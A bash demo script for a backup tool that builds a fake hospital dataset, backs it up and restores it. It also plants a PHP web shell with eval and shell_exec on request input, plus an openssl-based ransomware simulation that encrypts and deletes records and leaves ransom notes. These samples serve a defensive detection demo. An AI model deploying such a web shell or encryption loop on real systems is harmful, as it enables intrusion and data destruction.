#!/usr/bin/env bash
# The cleanroom demo: a small "hospital" backed up into a vault, changed,
# backed up again, checked, and restored — end to end with the real command.
# Then the patient-record server's web portal is attacked (a web shell on
# night 3, ransomware on night 5): `cleanroom hunt` finds it, `clean-point`
# names the restore point to use, `restore` refuses the compromised one
# (exit code 8) and the clean one comes back.
#
#   make demo                      (builds first, then runs this script)
#   CLEANROOM=build/cleanroom scripts/demo.sh
#
# Everything happens under ./demo/ (git-ignored), wiped at the start, so the
# demo can be run again and again. Run as root from a private folder (a clone
# in /root), what the postgres account must reach goes to a folder under
# /var/tmp instead, removed at the end (the demo says where). It stops with a non-zero exit status and a
# message at the first thing that goes wrong; "DEMO OK" is the last line when
# everything worked.
set -euo pipefail

ROOT=$(cd "$(dirname "$0")/.." && pwd)
CLEANROOM=${CLEANROOM:-$ROOT/build/cleanroom}
case "$CLEANROOM" in /*) ;; *) CLEANROOM="$ROOT/$CLEANROOM" ;; esac
DEMO="$ROOT/demo"
SRC="$DEMO/sources"

STEP=0
STEP_NAME=""
T0=$(date +%s.%N)
section() {
    STEP=$((STEP + 1))
    STEP_NAME=$1
    printf '\n== %d. %s  [%s]\n' "$STEP" "$1" \
        "$(awk -v a="$T0" -v b="$(date +%s.%N)" 'BEGIN { printf "%.0f s", b - a }')"
}
note() { printf '   %s\n' "$*"; }
REPORTED=0
fail() {
    printf '\nDEMO FAILED in step %d (%s): %s\n' "$STEP" "$STEP_NAME" "$*" >&2
    REPORTED=1
    exit 1
}
# Any other failing command (set -e) still gets a clear last line.
trap 'rc=$?; [ $rc -eq 0 ] || [ $REPORTED -eq 1 ] ||
      printf "\nDEMO FAILED in step %d (%s), exit status %d\n" "$STEP" "$STEP_NAME" "$rc" >&2' EXIT

# Run the command, showing it as a person would type it.
cr() {
    printf '   $ cleanroom %s\n' "$*"
    "$CLEANROOM" "$@" 2>&1 | sed 's/^/     /'
    return "${PIPESTATUS[0]}"
}

mib() { awk -v b="$1" 'BEGIN { printf "%.1f MiB", b / 1048576 }'; }

[ -x "$CLEANROOM" ] || fail "no cleanroom command at $CLEANROOM (run 'make' first)"
command -v python3 >/dev/null || fail "python3 is needed (scripts/install-deps installs it)"
command -v openssl >/dev/null || fail "openssl is needed (it plays the ransomware)"

# Five nights of backups, at 02:00 on the five days before today.
night() { date -d "$(date +%F) 02:00 $((6 - $1)) days ago" +%Y-%m-%dT%H:%M:%S%:z; }

# ------------------------------------------------------------------------
section "Building the demo hospital in demo/sources (real files from this machine)"
rm -rf "$DEMO"
mkdir -p "$SRC/ad" "$SRC/dpi" "$SRC/pacs"

# ad: the directory server. A copy of /etc: small text files, symlinks
# (some dangling, like /etc/localtime here), many permissions. Files this user
# cannot read are simply left out.
cp -a /etc/. "$SRC/ad/" 2>/dev/null || true
note "ad   (directory server):   copy of /etc"

# dpi: the patient-record server. Documentation as "procedures", plus
# generated patient records: CSV files and HL7-like messages.
mkdir -p "$SRC/dpi/procedures" "$SRC/dpi/records" "$SRC/dpi/hl7"
budget=$((40 * 1048576)) used=0 docs=()
while IFS=$'\t' read -r sz d; do
    [ $((used + sz)) -le $budget ] || continue
    docs+=("$d")
    used=$((used + sz))
done < <(du -sb /usr/share/doc/*/ 2>/dev/null | LC_ALL=C sort -k2)
[ ${#docs[@]} -gt 0 ] && cp -a "${docs[@]}" "$SRC/dpi/procedures/" 2>/dev/null || true
python3 - "$SRC/dpi" <<'EOF'
import os, random, sys
root = sys.argv[1]
rnd = random.Random(20261122)  # deterministic: the same hospital every run
first = ["Marie", "Jean", "Camille", "Louis", "Chloe", "Hugo", "Lea", "Noah", "Emma", "Adam",
         "Sofia", "Lucas", "Ines", "Gabriel", "Jade", "Arthur", "Alice", "Jules", "Lina", "Paul"]
last = ["Martin", "Bernard", "Dubois", "Thomas", "Robert", "Richard", "Petit", "Durand",
        "Leroy", "Moreau", "Simon", "Laurent", "Lefebvre", "Michel", "Garcia", "David"]
wards = ["cardiology", "oncology", "emergency", "pediatrics", "radiology", "surgery", "icu"]
codes = ["I10", "E11.9", "J45.909", "C50.911", "S72.001A", "N18.3", "F32.9", "K21.9", "M54.5"]
for i in range(1, 1501):
    pid = "P%06d" % i
    ward = rnd.choice(wards)
    d = os.path.join(root, "records", ward)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, pid + ".csv"), "w") as f:
        f.write("patient_id,name,birth_date,visit_date,ward,diagnosis,note\n")
        name = "%s %s" % (rnd.choice(first), rnd.choice(last))
        birth = "%04d-%02d-%02d" % (rnd.randint(1930, 2024), rnd.randint(1, 12), rnd.randint(1, 28))
        for v in range(rnd.randint(3, 40)):
            f.write("%s,%s,%s,2026-%02d-%02d,%s,%s,%s\n" % (
                pid, name, birth, rnd.randint(1, 12), rnd.randint(1, 28), ward,
                rnd.choice(codes), "observation %d: %s" % (v, "stable " * rnd.randint(1, 20))))
    with open(os.path.join(root, "hl7", pid + ".hl7"), "w") as f:
        for m in range(rnd.randint(1, 10)):
            f.write("MSH|^~\\&|DPI|HOSPITAL|LAB|HOSPITAL|2026%02d%02d%02d%02d||ORU^R01|%s-%d|P|2.5\r"
                    % (rnd.randint(1, 12), rnd.randint(1, 28), rnd.randint(0, 23),
                       rnd.randint(0, 59), pid, m))
            f.write("PID|1||%s^^^HOSPITAL||%s^%s\r" % (pid, rnd.choice(last), rnd.choice(first)))
            for o in range(rnd.randint(2, 12)):
                f.write("OBX|%d|NM|%d^LAB||%.1f|mmol/L|||||F\r\n"
                        % (o + 1, rnd.randint(1000, 9999), rnd.uniform(0.5, 12.0)))
EOF
# The patient portal of dpi: a small PHP application, and its uploads folder.
mkdir -p "$SRC/dpi/www/uploads"
cat >"$SRC/dpi/www/index.php" <<'EOF'
<?php
// Patient portal: appointments and lab results of the logged-in patient.
session_start();
if (empty($_SESSION['patient'])) {
    header('Location: /login.php');
    exit;
}
$id = preg_replace('/[^A-Z0-9]/', '', $_SESSION['patient']);
foreach (glob(__DIR__ . "/../records/*/$id.csv") as $f) {
    echo '<pre>' . htmlspecialchars(file_get_contents($f)) . '</pre>';
}
EOF
printf '<html><body><h1>Patient portal</h1></body></html>\n' >"$SRC/dpi/www/login.html"
note "dpi  (patient records):    /usr/share/doc subset + 1500 patient files (CSV and HL7) + a PHP web portal"

# pacs: the imaging archive. Large binary files (shared libraries renamed
# *.dcm stand in for images), the same study stored twice (deduplicated in
# the vault), and a sparse volume file.
mkdir -p "$SRC/pacs/studies" "$SRC/pacs/volumes"
budget=$((120 * 1048576)) used=0 n=0
while IFS= read -r f; do
    sz=$(stat -c %s "$f")
    [ $((used + sz)) -le $budget ] || continue
    n=$((n + 1))
    study="$SRC/pacs/studies/ST$(printf '%04d' $(((n - 1) / 8 + 1)))"
    mkdir -p "$study"
    cp -p "$f" "$study/IMG$(printf '%05d' "$n").dcm"
    used=$((used + sz))
done < <(find /usr/lib/x86_64-linux-gnu -maxdepth 1 -type f -name '*.so*' -size +512k -size -40M |
         LC_ALL=C sort)
[ "$n" -gt 0 ] || fail "found no shared libraries to stand in for images"
cp -a "$SRC/pacs/studies/ST0001" "$SRC/pacs/studies/ST0001-resent"
truncate -s 256M "$SRC/pacs/volumes/archive.img"
printf 'PACS VOLUME HEADER\n' | dd of="$SRC/pacs/volumes/archive.img" conv=notrunc status=none
printf 'PACS VOLUME INDEX\n' | dd of="$SRC/pacs/volumes/archive.img" bs=1M seek=128 conv=notrunc status=none
ln -s studies/ST0001 "$SRC/pacs/latest-study"
note "pacs (imaging):            $n images in $(ls "$SRC/pacs/studies" | wc -l) studies (one sent twice), a sparse 256 MiB volume"

for s in ad dpi pacs; do
    note "$(printf '%-5s %6d files  %10s' "$s" "$(find "$SRC/$s" -type f | wc -l)" \
        "$(mib "$(du -sb "$SRC/$s" | cut -f1)")")"
done
SRC_BYTES=$(du -sb "$SRC" | cut -f1)
SRC_ALLOC=$(du -sB1 "$SRC" | cut -f1)

# ------------------------------------------------------------------------
section "Creating the vault in demo/vault"
umask 077
printf 'correct horse battery staple hospital demo\n' >"$DEMO/passphrase"
umask 022
export CLEANROOM_REPO="$DEMO/vault"
export CLEANROOM_PASSWORD_FILE="$DEMO/passphrase"
unset CLEANROOM_PASSWORD
note "CLEANROOM_REPO=demo/vault  CLEANROOM_PASSWORD_FILE=demo/passphrase"
cr init --kdf interactive || fail "init failed"
[ -f "$DEMO/vault/config" ] || fail "init did not create demo/vault/config"

# ------------------------------------------------------------------------
section "Night 1: the first backup (02:00, five days ago) of every system"
t=$(date +%s.%N)
for s in ad dpi pacs; do
    cr backup --source "$s" --time "$(night 1)" --tag nightly "$SRC/$s" || fail "backup of $s failed"
done
note "$(awk -v a="$t" -v b="$(date +%s.%N)" 'BEGIN { printf "took %.1f s", b - a }')"

# ------------------------------------------------------------------------
section "Day 2 at the hospital: things change"
NEWP="$SRC/dpi/records/emergency/P009999.csv"
printf 'patient_id,name,birth_date,visit_date,ward,diagnosis,note\nP009999,Ada Lovelace,1985-12-10,2026-11-22,emergency,S72.001A,admitted at 14:02\n' >"$NEWP"
note "new patient:      dpi/records/emergency/P009999.csv"
MODP=$(find "$SRC/dpi/records" -name 'P000042.csv')
printf 'P000042,,,2026-11-22,,,discharged home, follow-up in 6 weeks\n' >>"$MODP"
note "modified record:  dpi/${MODP#"$SRC/dpi/"}"
rm "$SRC/dpi/hl7/P000007.hl7"
note "deleted file:     dpi/hl7/P000007.hl7"
cp -p "$SRC/pacs/studies/ST0002/"IMG*.dcm "$SRC/pacs/volumes/" 2>/dev/null || true
note "pacs: a study copied into volumes/ (no new data for the vault: deduplicated)"

# ------------------------------------------------------------------------
section "Night 2 (parent snapshots make it fast: unchanged files are not read)"
t=$(date +%s.%N)
for s in ad dpi pacs; do
    cr backup --source "$s" --time "$(night 2)" --tag nightly "$SRC/$s" || fail "second backup of $s failed"
done
note "$(awk -v a="$t" -v b="$(date +%s.%N)" 'BEGIN { printf "took %.1f s", b - a }')"

# ------------------------------------------------------------------------
section "The restore points in the vault"
cr snapshots || fail "snapshots failed"
"$CLEANROOM" snapshots --json >"$DEMO/snapshots.json" || fail "snapshots --json failed"
read -r NSNAP DPI_OLD DPI_NEW PROTECTED < <(python3 - "$DEMO/snapshots.json" <<'EOF'
import json, sys
snaps = json.load(open(sys.argv[1]))
dpi = sorted((s for s in snaps if s["source"] == "dpi"), key=lambda s: s["time"])
print(len(snaps), dpi[0]["short_id"] if dpi else "-", dpi[-1]["short_id"] if dpi else "-",
      sum(int(s.get("bytes", 0)) for s in snaps))
EOF
)
[ "$NSNAP" -eq 6 ] || fail "expected 6 snapshots (3 systems x 2 nights), found $NSNAP"
note "6 snapshots: 3 systems x 2 backups"
echo
cr ls -l dpi:latest "$SRC/dpi/records/emergency" | head -n 6 || true

# ------------------------------------------------------------------------
section "What changed on dpi between the two backups"
DIFF_OUT=$("$CLEANROOM" diff "$DPI_OLD" "$DPI_NEW") || fail "diff failed"
printf '   $ cleanroom diff %s %s\n' "$DPI_OLD" "$DPI_NEW"
printf '%s\n' "$DIFF_OUT" | sed 's/^/     /'
grep -q '^+ .*P009999\.csv' <<<"$DIFF_OUT" || fail "diff does not show the new patient file"
grep -q '^- .*P000007\.hl7' <<<"$DIFF_OUT" || fail "diff does not show the deleted file"
grep -q '^M .*P000042\.csv' <<<"$DIFF_OUT" || fail "diff does not show the modified record"
note "the new, deleted and modified files are all there"

# ------------------------------------------------------------------------
section "Checking the vault: every byte decrypted and its hash checked"
cr verify --read-data || fail "verify found a problem (see above)"
note "a wrong passphrase is refused (exit code 3) and nothing is touched:"
printf 'not the passphrase\n' >"$DEMO/wrong-passphrase"
set +e
CLEANROOM_PASSWORD_FILE="$DEMO/wrong-passphrase" "$CLEANROOM" snapshots >/dev/null 2>"$DEMO/wrongpass.err"
rc=$?
set -e
sed 's/^/     /' "$DEMO/wrongpass.err"
[ "$rc" -eq 3 ] || fail "wrong passphrase gave exit code $rc, expected 3"

# ------------------------------------------------------------------------
section "Restoring dpi:latest into demo/restore and proving it identical"
t=$(date +%s.%N)
cr restore dpi:latest --target "$DEMO/restore" || fail "restore failed"
note "$(awk -v a="$t" -v b="$(date +%s.%N)" 'BEGIN { printf "took %.1f s", b - a }')"
# Where the snapshot's path lands under the target: the full path (like
# restic) or just the last component.
GOT=""
for c in "$DEMO/restore$SRC/dpi" "$DEMO/restore/dpi" "$DEMO/restore"; do
    if [ -d "$c/hl7" ] && [ -d "$c/records" ]; then GOT=$c; break; fi
done
[ -n "$GOT" ] || fail "cannot find the restored dpi folder under demo/restore"
note "restored tree: ${GOT#"$ROOT/"} (snapshots keep the absolute paths backed up)"
diff -r --no-dereference "$SRC/dpi" "$GOT" >"$DEMO/restore.diff" 2>&1 ||
    { head -n 20 "$DEMO/restore.diff" >&2; fail "restored files differ from the originals"; }
note "diff -r: every file has the same content"
python3 - "$SRC/dpi" "$GOT" <<'EOF' || fail "restored metadata differs from the originals"
import os, stat, sys
a, b = sys.argv[1], sys.argv[2]
bad = 0
checked = {"files": 0, "dirs": 0, "symlinks": 0}
for dirpath, dirs, files in os.walk(a):
    for name in dirs + files + ([""] if dirpath == a else []):
        pa = os.path.join(dirpath, name) if name else dirpath
        pb = os.path.join(b, os.path.relpath(pa, a))
        sa, sb = os.lstat(pa), os.lstat(pb)
        why = []
        if stat.S_IFMT(sa.st_mode) != stat.S_IFMT(sb.st_mode):
            why.append("type")
        elif stat.S_ISLNK(sa.st_mode):
            checked["symlinks"] += 1
            if os.readlink(pa) != os.readlink(pb):
                why.append("link target")
        else:
            checked["dirs" if stat.S_ISDIR(sa.st_mode) else "files"] += 1
            if stat.S_IMODE(sa.st_mode) != stat.S_IMODE(sb.st_mode):
                why.append("mode %o != %o" % (stat.S_IMODE(sa.st_mode), stat.S_IMODE(sb.st_mode)))
            if sa.st_mtime_ns != sb.st_mtime_ns:
                why.append("mtime")
            if os.geteuid() == 0 and (sa.st_uid, sa.st_gid) != (sb.st_uid, sb.st_gid):
                why.append("owner")
        if why:
            bad += 1
            if bad <= 10:
                print("   differs: %s (%s)" % (os.path.relpath(pa, a) or ".", ", ".join(why)))
print("   metadata: %(files)d files, %(dirs)d folders, %(symlinks)d symlinks checked: "
      "modes, mtimes, link targets%(owner)s" % dict(checked, owner=", owners" if os.geteuid() == 0 else ""))
sys.exit(1 if bad else 0)
EOF


# ------------------------------------------------------------------------
section "Night 3: an attacker uploads a web shell to the dpi portal"
# What the clean point must give back: the emergency ward as it is now.
(cd "$SRC/dpi/records/emergency" && sha256sum -- *.csv) >"$DEMO/emergency-night2.sums"
cat >"$SRC/dpi/www/uploads/scan-0042.php" <<'EOF'
<?php
if (isset($_REQUEST['k']) && md5($_REQUEST['k']) === 'e10adc3949ba59abbe56e057f20f883e') {
    @eval(base64_decode($_POST['x']));
    echo '<pre>' . shell_exec($_GET['c']) . '</pre>';
}
EOF
note "dropped through the upload form: dpi/www/uploads/scan-0042.php (nobody notices)"
# nightly N [RANSOMED]: back up every system; RANSOMED is the one the backup
# itself must see encrypted (saved as evidence, tagged suspect, exit 11).
nightly() {
    local s rc
    for s in ad dpi pacs; do
        rc=0
        cr --quiet backup --source "$s" --time "$(night "$1")" --tag nightly "$SRC/$s" || rc=$?
        if [ "$s" = "${2:-}" ]; then
            [ "$rc" = 11 ] || fail "the backup of $s (night $1) did not see the ransomware (exit $rc, expected 11)"
            note "the backup of $s saw it at once: snapshot saved as evidence, tagged 'suspect', exit 11"
        elif [ "$rc" != 0 ]; then
            fail "backup of $s (night $1) failed"
        fi
    done
}
nightly 3

section "Night 4: an ordinary day"
printf 'P009998,Grace Hopper,1906-12-09,%s,cardiology,I10,routine check\n' "$(date +%F)" \
    >"$SRC/dpi/records/cardiology/P009998.csv"
note "new patient: dpi/records/cardiology/P009998.csv"
nightly 4

section "Night 5: ransomware encrypts the emergency ward's records"
n=$(find "$SRC/dpi/records/emergency" -name '*.csv' | wc -l)
# One openssl process per file, as many at once as there are cores.
# shellcheck disable=SC2016 # $f is expanded by the inner sh
find "$SRC/dpi/records/emergency" -name '*.csv' -print0 | xargs -0 -n 16 -P "$(nproc)" sh -c 'for f; do
        openssl enc -aes-256-cbc -pbkdf2 -salt -pass pass:demo-ransom -in "$f" -out "$f.lockbit" && rm "$f"
    done' sh || fail "the ransomware (openssl) failed"
for d in "$SRC/dpi/records" "$SRC/dpi/records/emergency" "$SRC/dpi/www"; do
    printf 'YOUR FILES ARE ENCRYPTED. To get them back, pay 4 BTC and write to restore@example.invalid\n' \
        >"$d/Restore-My-Files.txt"
done
note "$n records encrypted with openssl (AES-256) and renamed *.lockbit, ransom notes Restore-My-Files.txt"
nightly 5 dpi

# ------------------------------------------------------------------------
section "Hunting every restore point for signs of compromise"
t=$(date +%s.%N)
cr hunt || fail "hunt failed"
note "$(awk -v a="$t" -v b="$(date +%s.%N)" 'BEGIN { printf "took %.1f s; run again after each backup it only looks at what changed", b - a }')"

section "What happened on dpi, night by night"
cr timeline --source dpi || fail "timeline failed"

section "The last clean restore point of dpi"
cr clean-point --source dpi || fail "clean-point failed"
"$CLEANROOM" --json clean-point --source dpi >"$DEMO/clean-point.json" || fail "clean-point --json failed"
"$CLEANROOM" snapshots --json >"$DEMO/snapshots.json" || fail "snapshots --json failed"
# The clean point and the first compromised snapshot, nights 2 and 3 of dpi,
# and (for the last section) the number and total size of the snapshots.
read -r CLEAN FIRST_BAD NIGHT2 NIGHT3 NSNAP PROTECTED < <(python3 - "$DEMO/clean-point.json" \
    "$DEMO/snapshots.json" <<'EOF'
import json, sys
c = [c for c in json.load(open(sys.argv[1])) if c["source"] == "dpi"][0]
snaps = json.load(open(sys.argv[2]))
dpi = sorted((s for s in snaps if s["source"] == "dpi"), key=lambda s: s["time"])
print((c["clean_snapshot"] or "-")[:8], (c["first_compromised_snapshot"] or "-")[:8],
      dpi[1]["short_id"], dpi[2]["short_id"], len(snaps), sum(int(s.get("bytes", 0)) for s in snaps))
EOF
)
[ "$CLEAN" = "$NIGHT2" ] || fail "clean point is $CLEAN, expected night 2's snapshot $NIGHT2"
[ "$FIRST_BAD" = "$NIGHT3" ] || fail "first compromised is $FIRST_BAD, expected night 3's snapshot $NIGHT3"
note "clean point $CLEAN = night 2, the last backup before the web shell (night 3, $NIGHT3)"

section "The restore gate: the compromised restore point is refused"
set +e
cr restore dpi:latest --target "$DEMO/restore-refused"
rc=$?
set -e
[ "$rc" -eq 8 ] || fail "restore of the compromised dpi:latest gave exit code $rc, expected 8"
[ ! -e "$DEMO/restore-refused" ] || [ -z "$(ls -A "$DEMO/restore-refused")" ] ||
    fail "the refused restore wrote files"
note "exit code 8, as expected: refused, nothing restored (--accept-risk would override it)"

section "Restoring the clean point $CLEAN into demo/restore-clean"
cr --quiet restore "$CLEAN" --target "$DEMO/restore-clean" || fail "restore of the clean point failed"
GOT=$DEMO/restore-clean$SRC/dpi
[ -d "$GOT/records/emergency" ] || fail "restored dpi folder not found at ${GOT#"$ROOT/"}"
(cd "$GOT/records/emergency" && sha256sum --quiet -c "$DEMO/emergency-night2.sums") ||
    fail "the emergency records of the clean point differ from those of night 2"
[ ! -e "$GOT/www/uploads/scan-0042.php" ] || fail "the clean point holds the web shell"
[ -z "$(find "$GOT" -name '*.lockbit' -o -name 'Restore-My-Files.txt')" ] ||
    fail "the clean point holds encrypted files or ransom notes"
note "$(wc -l <"$DEMO/emergency-night2.sums") emergency records back, identical to night 2; no web shell, nothing encrypted"

# ------------------------------------------------------------------------
section "What the vault costs on disk"
VAULT_BYTES=$(du -sb "$DEMO/vault" | cut -f1)
note "source data today:        $(mib "$SRC_BYTES") ($(mib "$SRC_ALLOC") on disk: the sparse volume is mostly holes)"
note "protected by $NSNAP snapshots: $(mib "$PROTECTED") (the sizes of all snapshots added up)"
note "vault size:               $(mib "$VAULT_BYTES")"
note "$(awk -v p="$PROTECTED" -v s="$SRC_ALLOC" -v v="$VAULT_BYTES" 'BEGIN {
    printf "dedup + compression: the vault is %.1fx smaller than the data it protects,", p / v
    printf " and %.1fx smaller than one copy of the sources on disk", s / v }')"
# ------------------------------------------------------------------------
section "A virtual machine: the portal's VM backed up as a disk image, exported for KVM and VMware"
# A small VM disk made here like any hypervisor's: a 256 MiB GPT disk with an
# EFI system partition (FAT) and an ext4 root holding a tiny web server
# (tests/image-lib.bash; no root, no loop device).
VM_TOOLS_MISSING=""
for t in qemu-img sgdisk mkfs.ext4 mkfs.vfat mcopy; do
    command -v "$t" >/dev/null || VM_TOOLS_MISSING="$VM_TOOLS_MISSING $t"
done
if [ -n "$VM_TOOLS_MISSING" ]; then
    note "skipped: not installed:$VM_TOOLS_MISSING (scripts/install-deps installs them)"
else
    # shellcheck source=../tests/image-lib.bash
    . "$ROOT/tests/image-lib.bash"
    VM="$DEMO/vm"
    mkdir -p "$VM/tree/etc" "$VM/tree/var/www/html" "$VM/tree/usr/bin"
    printf 'portal-vm\n' >"$VM/tree/etc/hostname"
    cp /etc/os-release "$VM/tree/etc/os-release" 2>/dev/null || printf 'NAME=Debian\n' >"$VM/tree/etc/os-release"
    printf 'LABEL=root / ext4 defaults 0 1\nLABEL=EFI /boot/efi vfat umask=0077 0 1\n' >"$VM/tree/etc/fstab"
    printf '<html><body><h1>Patient portal</h1></body></html>\n' >"$VM/tree/var/www/html/index.html"
    cp /bin/sh "$VM/tree/usr/bin/sh" 2>/dev/null || true
    mk_ext4_gpt_image "$VM/portal-vm.raw" "$VM/tree" 256M || fail "could not build the VM disk"
    note "demo/vm/portal-vm.raw: $(mib "$(stat -c %s "$VM/portal-vm.raw")") disk, $(mib "$(img_alloc "$VM/portal-vm.raw")") used (GPT: p1 EFI FAT, p2 ext4)"
    img_convert "$VM/portal-vm.raw" "$VM/portal-vm.qcow2" qcow2 || fail "qemu-img convert failed"
    note "as a KVM host stores it: demo/vm/portal-vm.qcow2"
    cr backup --source portal-vm --image "$VM/portal-vm.qcow2" \
        --vm-cpus 2 --vm-memory 2G --vm-firmware uefi || fail "image backup of the VM failed"
    cr ls -l portal-vm:latest /disk0/p2/var/www/html || fail "ls inside the VM's disk failed"
    note "the files inside the disk are listed (and restorable one by one) like any other snapshot's"
    cr --quiet hunt --source portal-vm || fail "hunt of the VM failed"
    note "hunted like the servers (inside the disk, from its system root /disk0/p2) before it is exported"
    for hv in kvm vmware; do
        cr vm-export portal-vm:latest --hypervisor "$hv" --out "$VM/export-$hv" ||
            fail "vm-export --hypervisor $hv failed"
        note "demo/vm/export-$hv: $(cd "$VM/export-$hv" && ls | tr '\n' ' ')"
    done
    XML=$(find "$VM/export-kvm" -maxdepth 1 -name '*.xml' | head -n1)
    [ -n "$XML" ] || fail "vm-export for kvm wrote no domain XML"
    if command -v virt-xml-validate >/dev/null; then
        virt-xml-validate "$XML" domain >/dev/null 2>"$VM/validate.err" ||
            { cat "$VM/validate.err" >&2; fail "virt-xml-validate rejects ${XML#"$ROOT/"}"; }
        note "virt-xml-validate: ${XML#"$ROOT/"} is a valid libvirt domain"
    fi
    grep -q "<vcpu[^>]*>2</vcpu>" "$XML" || fail "the domain XML does not give the VM its 2 CPUs"
    grep -qi "efi" "$XML" || fail "the domain XML does not boot the VM with UEFI"
    QC=$(find "$VM/export-kvm" -maxdepth 1 -name '*.qcow2' | head -n1)
    qemu-img compare -q "$VM/portal-vm.raw" "$QC" || fail "the exported disk differs from the VM's disk"
    note "the exported qcow2 is identical to the VM's disk (qemu-img compare); 2 CPUs, 2 GiB, UEFI kept"
    OVF=$(find "$VM/export-vmware" -maxdepth 1 -name '*.ovf' | head -n1)
    [ -n "$OVF" ] || fail "vm-export for vmware wrote no OVF descriptor"
    if command -v xmllint >/dev/null; then
        xmllint --noout "$OVF" || fail "${OVF#"$ROOT/"} is not well-formed XML"
    fi
    note "what the technician follows to start it (demo/vm/export-kvm/README.txt):"
    sed -n '1,12p' "$VM/export-kvm/README.txt" 2>/dev/null | sed 's/^/     | /'
fi

# ------------------------------------------------------------------------
section "Two more servers: a PostgreSQL database and an LDAP directory, backed up and hunted"
# Real data folders made by the real servers: a PostgreSQL cluster (initdb)
# with a table of patients, stopped cleanly before its backup, and an
# OpenLDAP directory (slapadd into an mdb database). `recover` starts the real
# servers on the restored folders further down.
PGBIN=$(ls -d /usr/lib/postgresql/*/bin 2>/dev/null | sort -V | tail -n1)
REC_MISSING=""
for t in slapd slapadd "$PGBIN/initdb" "$PGBIN/pg_ctl" "$PGBIN/psql"; do
    command -v "$t" >/dev/null || REC_MISSING="$REC_MISSING $(basename "$t")"
done
[ -z "$REC_MISSING" ] || fail "not installed:$REC_MISSING (scripts/install-deps installs them)"
free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
# PostgreSQL refuses to run as root: as root, the cluster belongs to the postgres user.
RUNPG=""
[ "$(id -u)" -ne 0 ] || RUNPG="runuser -u postgres -- "
# In / : the postgres account may not enter the folder the demo runs from.
as_pg() { (cd / && $RUNPG "$@"); }
# The postgres account must reach its clusters (the one backed up and the one
# recover restores) through every folder above them. A clone under a private
# parent (/root/cleanroom: 0700) cannot be entered by it, and the user's own
# folders are never opened up: then the clusters, and every folder recover
# restores into, go to a folder of their own under /var/tmp, removed at the end.
# shellcheck source=../tests/reach.bash
. "$ROOT/tests/reach.bash"
SHARED=""
if [ -n "$RUNPG" ] && ! can_reach postgres "$DEMO"; then
    SHARED=$(reachable_dir cleanroom-demo) || fail "cannot make a folder under /var/tmp"
    note "postgres cannot enter $DEMO (its parent folders are private):"
    note "its clusters and the recovered services go to $SHARED, removed at the end"
fi
# Servers started from here on are stopped however the demo ends.
SERVERS=()
stop_servers() {
    local f
    for f in "${SERVERS[@]}"; do
        # (if and || true: under set -e a kill of a server already gone would end the exit
        # trap with status 1)
        if [ -f "$f" ]; then
            kill "$(head -n1 "$f")" 2>/dev/null || true
        fi
    done
    return 0
}
# Stopped and waited for before their folders go.
remove_shared() {
    local d
    [ -n "$SHARED" ] || return 0
    for d in "$SHARED"/database/data "$SHARED"/restored/database"$SHARED"/database/data; do
        # (an if, not `[ ] &&`: under set -e a false test ending the loop would end the
        # exit trap with status 1 after DEMO OK)
        if [ -f "$d/postmaster.pid" ]; then
            as_pg "$PGBIN/pg_ctl" -D "$d" -m immediate -w stop >/dev/null 2>&1 || true
        fi
    done
    rm -rf "$SHARED"
}
# The demo's own status is the exit status: the cleanup runs without set -e.
trap 'rc=$?; set +e; stop_servers; remove_shared; [ $rc -eq 0 ] || [ $REPORTED -eq 1 ] ||
      printf "\nDEMO FAILED in step %d (%s), exit status %d\n" "$STEP" "$STEP_NAME" "$rc" >&2
      exit $rc' EXIT

NPAT=1500
PGSRC="${SHARED:-$SRC}/database"
mkdir -p "$PGSRC"
chmod 755 "$DEMO" "$SRC"
[ "$(id -u)" -ne 0 ] || chown postgres "$PGSRC"
as_pg "$PGBIN/initdb" -D "$PGSRC/data" -U postgres --auth=trust -E UTF8 --no-sync \
    >"$DEMO/initdb.log" 2>&1 || { cat "$DEMO/initdb.log" >&2; fail "initdb failed"; }
PGPORT=$(free_port)
as_pg "$PGBIN/pg_ctl" -D "$PGSRC/data" -o "-p $PGPORT -k /tmp -c listen_addresses=127.0.0.1" \
    -l "$PGSRC/data/startup.log" -w -t 30 start >/dev/null || fail "PostgreSQL did not start"
SERVERS+=("$PGSRC/data/postmaster.pid")
python3 - "$NPAT" <<'EOF' >"$DEMO/patients.sql"
import random, sys
rnd = random.Random(7)
print("CREATE DATABASE hospital;\n\\c hospital")
print("CREATE TABLE patients (id text PRIMARY KEY, name text, birth date, ward text);")
print("COPY patients FROM stdin;")
for i in range(1, int(sys.argv[1]) + 1):
    print("P%06d\tPatient %d\t%04d-%02d-%02d\t%s" % (i, i, rnd.randint(1930, 2024), rnd.randint(1, 12),
          rnd.randint(1, 28), rnd.choice(["cardiology", "oncology", "emergency", "icu"])))
print("\\.")
EOF
"$PGBIN/psql" -q -v ON_ERROR_STOP=1 -h 127.0.0.1 -p "$PGPORT" -U postgres -d postgres \
    -f "$DEMO/patients.sql" >/dev/null || fail "could not load the patients table"
as_pg "$PGBIN/pg_ctl" -D "$PGSRC/data" -m fast -w stop >/dev/null || fail "PostgreSQL did not stop"
note "database: a PostgreSQL cluster (initdb) with hospital.patients ($NPAT rows), stopped cleanly"

LDSRC="$SRC/directory"
mkdir -p "$LDSRC/data"
# The configuration names its data folder: kept as a template, the start
# command writes the real one for wherever the directory is restored.
cat >"$LDSRC/slapd.conf.in" <<'EOF'
include /etc/ldap/schema/core.schema
include /etc/ldap/schema/cosine.schema
include /etc/ldap/schema/inetorgperson.schema
pidfile @DIR@/slapd.pid
modulepath /usr/lib/ldap
moduleload back_mdb
database mdb
maxsize 16777216
suffix "dc=hopital,dc=example"
rootdn "cn=admin,dc=hopital,dc=example"
directory @DIR@/data
EOF
sed "s|@DIR@|$LDSRC|g" "$LDSRC/slapd.conf.in" >"$LDSRC/slapd.conf"
NSTAFF=40
{
    printf 'dn: dc=hopital,dc=example\nobjectClass: dcObject\nobjectClass: organization\no: Hopital demo\ndc: hopital\n\n'
    printf 'dn: ou=staff,dc=hopital,dc=example\nobjectClass: organizationalUnit\nou: staff\n\n'
    for i in $(seq 1 "$NSTAFF"); do
        printf 'dn: uid=staff%02d,ou=staff,dc=hopital,dc=example\nobjectClass: inetOrgPerson\nuid: staff%02d\ncn: Staff %02d\nsn: Staff%02d\n\n' "$i" "$i" "$i" "$i"
    done
} >"$DEMO/directory.ldif"
slapadd -q -f "$LDSRC/slapd.conf" -l "$DEMO/directory.ldif" >"$DEMO/slapadd.log" 2>&1 ||
    { cat "$DEMO/slapadd.log" >&2; fail "slapadd failed"; }
note "directory: an OpenLDAP mdb database (slapadd) with $NSTAFF staff accounts"
